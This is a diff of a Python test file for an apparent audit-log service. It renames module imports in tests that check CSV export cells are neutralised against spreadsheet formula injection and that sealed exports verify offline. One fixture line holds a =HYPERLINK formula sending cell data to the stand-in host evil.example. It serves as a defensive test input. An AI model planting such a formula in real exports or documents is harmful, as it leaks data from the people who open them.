@@ -16,8 +16,10 @@ from pathlib import Path
 import pytest
 from sqlalchemy import insert
 
-from partnerflow.engine import audit, auditseal, csvsafe
-from partnerflow.engine.models import AuditEvent
+from partnerflow.engine import audit
+from partnerflow.engine.audit import seals
+from partnerflow.engine.runtime import auditlog
+from partnerflow.engine.store.models import AuditEvent
 
 DOCS = Path(__file__).resolve().parents[2] / "docs" / "audit.md"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
@@ -45,14 +47,14 @@ def test_no_cell_of_any_column_of_the_audit_csv_is_a_formula(world, as_user):
     rows = csv_rows(as_user("alice").get(f"/partenariats/{world.own}/audit.csv"))
     [hostile] = [r for r in rows if r["seq"] == "'-7"]
     for column, value in hostile.items():
-        assert not value.startswith(csvsafe.TRIGGERS), (column, value)
+        assert not value.startswith(auditlog.TRIGGERS), (column, value)
     assert hostile["actor"] == "'" + HYPERLINK
     # nothing lost: removing the quote gives back what was stored
     stored = {k: json.dumps(v) if k == "payload" else str(v) for k, v in HOSTILE.items()}
-    assert {k: csvsafe.unquote(hostile[k]) for k in HOSTILE} == stored
+    assert {k: auditlog.unquote_cell(hostile[k]) for k in HOSTILE} == stored
     for row in rows:
         for value in row.values():
-            assert not value.startswith(csvsafe.TRIGGERS)
+            assert not value.startswith(auditlog.TRIGGERS)
 
 
 def test_the_csv_export_unquoted_is_the_json_lines_export(world, as_user):
@@ -68,7 +70,7 @@ def test_the_csv_export_unquoted_is_the_json_lines_export(world, as_user):
             if column == "payload":
                 expected = json.dumps(expected, sort_keys=True, separators=(",", ":"),
                                       ensure_ascii=False)
-            assert csvsafe.unquote(value) == ("" if expected is None else str(expected))
+            assert auditlog.unquote_cell(value) == ("" if expected is None else str(expected))
 
 
 @pytest.mark.parametrize("value, cell", [
@@ -77,8 +79,8 @@ def test_the_csv_export_unquoted_is_the_json_lines_export(world, as_user):
     ("claire.martin", "claire.martin"), (None, ""), (-5, "'-5"), (12, "12"), ("", ""),
 ])
 def test_the_shared_cell_rule(value, cell):
-    assert csvsafe.cell(value) == cell
-    assert csvsafe.unquote(cell) == ("" if value is None else str(value))
+    assert auditlog.safe_cell(value) == cell
+    assert auditlog.unquote_cell(cell) == ("" if value is None else str(value))
 
 
 # ---------------------------------------------------------------- the documented offline checks
@@ -99,9 +101,9 @@ def run(script: str, *args) -> subprocess.CompletedProcess:
 def exported(world, as_user, tmp_path):
     pf = world.pf
     with pf.read() as session:
-        seal = auditseal.make_seal(session, pf.audit_keys, at=pf.clock(), site=None)
+        seal = seals.make_seal(session, pf.audit_keys, at=pf.clock(), site=None)
     seal_file = tmp_path / "seal.json"
-    seal_file.write_text(auditseal.dumps(seal), encoding="utf-8")
+    seal_file.write_text(seals.dumps(seal), encoding="utf-8")
     export = tmp_path / "audit.jsonl"
     export.write_text(as_user("alice").get(f"/partenariats/{world.own}/audit.jsonl")
                       .get_data(as_text=True), encoding="utf-8")
